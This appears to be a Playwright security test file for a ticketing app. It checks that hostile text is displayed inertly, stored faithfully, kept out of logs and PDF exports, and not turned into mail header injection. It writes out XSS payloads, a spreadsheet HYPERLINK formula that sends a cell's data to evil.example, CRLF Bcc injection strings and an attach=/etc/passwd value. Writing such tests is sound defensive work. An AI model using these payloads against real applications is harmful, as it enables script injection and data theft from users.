import BetterSqlite from 'better-sqlite3';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { ask } from './ask.ts';
import { becomeLead, chooseFiles, expect, test, type Console } from './app.ts';
import { chooseTarget, runFromPalette } from './hours.ts';
import { CALL } from '../support/desk-calls.ts';

/** Stands in every hostile text: it may be in no log. */
const MARKER = 'zqmarker';
const RUN = 'window.hostile=1';

/** What strangers may write, each of which must be no more than letters. */
const TEXTS: readonly (readonly [string, string])[] = [
  ['SCRIPT', `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}">${MARKER}`],
  ['LINK', `[click](javascript:${RUN}) <a href="javascript:${RUN}">here</a> javascript:${RUN} ${MARKER}`],
  ['STYLE', `</style><style>*{display:none!important}</style><base href=//evil.example> ${MARKER}`],
  ['RTL', `\u202Etxet desrever\u202C and \u2067isolated and never closed ${MARKER} \u202Eexe.fdp`],
  ['ZALGO', `Z${'\u0310\u0352\u0357\u0301\u0327\u0333'.repeat(40)}algo ${MARKER}`],
  ['LONG', `${MARKER}${'W'.repeat(1_000_000)}`],
  ['NUL', `before\0after ${MARKER} \u0007\u001b[2J`],
  ['SURROGATE', `half \uD83D of a pair ${MARKER}`],
  ['ICU', `{0} {count, plural, other {#}} %s ${'${7*7}'} {{7*7}} ${MARKER}`],
  ['FORMULA', `=HYPERLINK("http://evil.example?"&A1,"${MARKER}")`],
  ['EMPTY', '\u200b\u200b\u2060\u00a0'],
];

const importHostile = async ({ app, page }: Console, userData: string): Promise<void> => {
  const path = join(userData, `${'\u202E'}vsc.${MARKER}<img src=x onerror=alert(1)>.json`);
  const records = TEXTS.map(([name, text]) => ({
    ...{
      number: `${name}-${text.slice(0, 30)}`,
      title: text,
      customer: `${name} ${text.slice(0, 3_000)}`,
      priority: 'P2',
      state: 'open',
    },
    ...{
      opened: new Date(Date.now() - 3_600_000).toISOString(),
      assignee: `${text.slice(0, 300)} ${name}`,
      requester: text.slice(0, 300),
    },
  }));
  writeFileSync(path, JSON.stringify(records));
  await chooseFiles(app, [path]);
  const chosen = await ask(page, 'import:choose-files', { purpose: 'export' });
  const order = {
    selectionId: chosen?.selectionId ?? '',
    profile: 'generic',
    zone: 'Europe/Paris',
    tierMapId: null,
    levelMapId: null,
  } as const;
  const report = await ask(page, 'import:run', order);
  expect([report.tickets.new, report.errors]).toEqual([TEXTS.length, []]);
};

/** A whole minute, so many before now. */
const minuteAgo = (minutes: number): number => (Math.floor(Date.now() / 60_000) - minutes) * 60_000;

/** Nothing ran, nothing was made of it, and what is shown still fits into the window. */
const expectHarmless = async (page: Page): Promise<void> => {
  const seen = await page.evaluate(() => ({
    ran: Reflect.get(window, 'hostile') === undefined,
    made: document.querySelectorAll('#root script, img[src="x"], base, a[href^="javascript:"], svg[onload]').length,
    hidden: getComputedStyle(document.body).display,
    wider: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    at: location.origin,
  }));
  expect(seen).toEqual({ ran: true, made: 0, hidden: 'block', wider: 0, at: 'app://vigie' });
};

test('hostile text is shown as text, in its place, wherever it is shown, and stays what it is', async ({
  own,
  userData,
}) => {
  test.setTimeout(180_000);
  const { app, page } = own;
  await becomeLead(page);
  await importHostile(own, userData);
  const rows = page.getByTestId('queue-row');
  await expect(rows).toHaveCount(TEXTS.length);
  await expectHarmless(page);
  const heights = await rows.evaluateAll((all) => [...new Set(all.map((row) => row.getBoundingClientRect().height))]);
  expect(heights).toHaveLength(1);

  for (const [name] of TEXTS) {
    await page.locator(`[data-testid="queue-row"][data-reference^="${name}"]`).click();
    await page.keyboard.press('Enter');
    const detail = page.getByTestId('ticket-detail');
    await expect(detail.locator('.ticket-reference')).toContainText(name);
    await expectHarmless(page);
    const inside = await detail.evaluate((one) => {
      const close = one.querySelector('.icon-button')?.getBoundingClientRect();
      return { wider: one.scrollWidth - one.clientWidth, isCloseSeen: (close?.right ?? Infinity) <= window.innerWidth };
    });
    expect([name, inside]).toEqual([name, { wider: 0, isCloseSeen: true }]);
    await page.keyboard.press('Escape');
    await expect(detail).toHaveCount(0);
  }

  // Typed, and not imported: in every field that takes text.
  const typed = TEXTS.filter(([name]) => name !== 'EMPTY').map(([name, text]) => [name, text.slice(0, 390)] as const);
  for (const [name, text] of typed) {
    const { row } = await ask(page, 'ticket:create', {
      ...CALL,
      title: text,
      customer: `Typed ${name} ${text}`.slice(0, 400),
      requester: text,
    });
    const commands = [
      { kind: 'note', text },
      { kind: 'edit', facts: { tags: [text.slice(0, 60)] } },
    ] as const;
    await page.evaluate((order) => window.vigie.call('ticket:run-commands', order as never), {
      targets: [{ id: row.id, expectedVersion: null }],
      commands,
    });
  }
  await page.keyboard.press('Control+k');
  await expect(page.getByTestId('palette-input')).toBeFocused();
  await page.keyboard.type(MARKER);
  await expect(page.getByRole('option').first()).toBeVisible();
  await expectHarmless(page);
  await page.keyboard.press('Escape');

  // On paper: a statement of a customer that is called so.
  const [, script = ''] = TEXTS[0] ?? [];
  const { row } = await ask(page, 'customer:save', {
    id: null,
    name: `AA ${script}`,
    tier: 'gold',
    sinceMs: Date.now() - 90 * 86_400_000,
  });
  await ask(page, 'expertise:log-work', {
    ...{ customerId: row.id, expert: null, assignment: 'advice', isTimed: true, ticketId: null, note: script },
    ...{ startMs: minuteAgo(120), endMs: minuteAgo(60), isCustomerFault: null, overageReason: null },
  });
  await runFromPalette(page, 'Statement of the customer');
  await page.getByTestId('statement-customer').selectOption(String(row.id));
  const sheet = page.getByTestId('statement-preview').getByTestId('statement-page').first();
  await expect(sheet).toContainText('<script>window.hostile=1</script>');
  await expectHarmless(page);
  const pdf = join(userData, 'hostile.pdf');
  await chooseTarget(app, pdf);
  await page.getByTestId('statement-pdf').click();
  await expect(page.getByTestId('statement-outcome')).toContainText('hostile.pdf');
  expect(readFileSync(pdf).toString('latin1')).not.toMatch(/\/JavaScript|\/JS\b|\/URI\b|\/Launch/);
  await page.keyboard.press('Escape');

  // What is stored is what was written; what no text can hold is a replacement character.
  const stored = TEXTS.map(([, text]) => text.replaceAll(/\0|\p{Cs}/gu, '\uFFFD'));
  const db = new BetterSqlite(join(userData, 'vigie.db'), { readonly: true });
  const titles = db.prepare("SELECT title FROM ticket WHERE source = 'generic' ORDER BY ticket_id").pluck().all();
  db.close();
  expect(titles).toEqual(stored.map((text) => text.trim()));
  const log = join(userData, 'logs', 'vigie.log');
  expect(existsSync(log) ? readFileSync(log, 'utf8') : '').not.toContain(MARKER);
});

test('a mail that is composed has the receivers, the subject and the text that were told, and nothing else', async ({
  samples,
}) => {
  const { app, page } = samples;
  await app.evaluate(({ shell }) => {
    shell.openExternal = (url) => {
      Object.assign(globalThis, { openedUrl: url });
      return Promise.resolve();
    };
  });
  const subject = 'x\r\nBcc: all@evil.example&bcc=b@evil.example#f?cc=c@evil.example%0d%0aTo:d@evil.example';
  const body = `y&attach=/etc/passwd\r\n.\r\n${'\uD800'}`;
  await ask(page, 'mail:compose', { to: ["o'neil+x@example.com"], subject, body });
  const url = new URL(await app.evaluate(() => String((globalThis as { openedUrl?: unknown }).openedUrl)));
  expect(url.protocol).toBe('mailto:');
  expect([...url.searchParams.keys()]).toEqual(['subject', 'body']);
  expect(url.searchParams.get('subject')).not.toMatch(/[\r\n]/);
  expect(decodeURIComponent(url.pathname)).toBe("o'neil+x@example.com");
  expect(url.hash).toBe('');
});
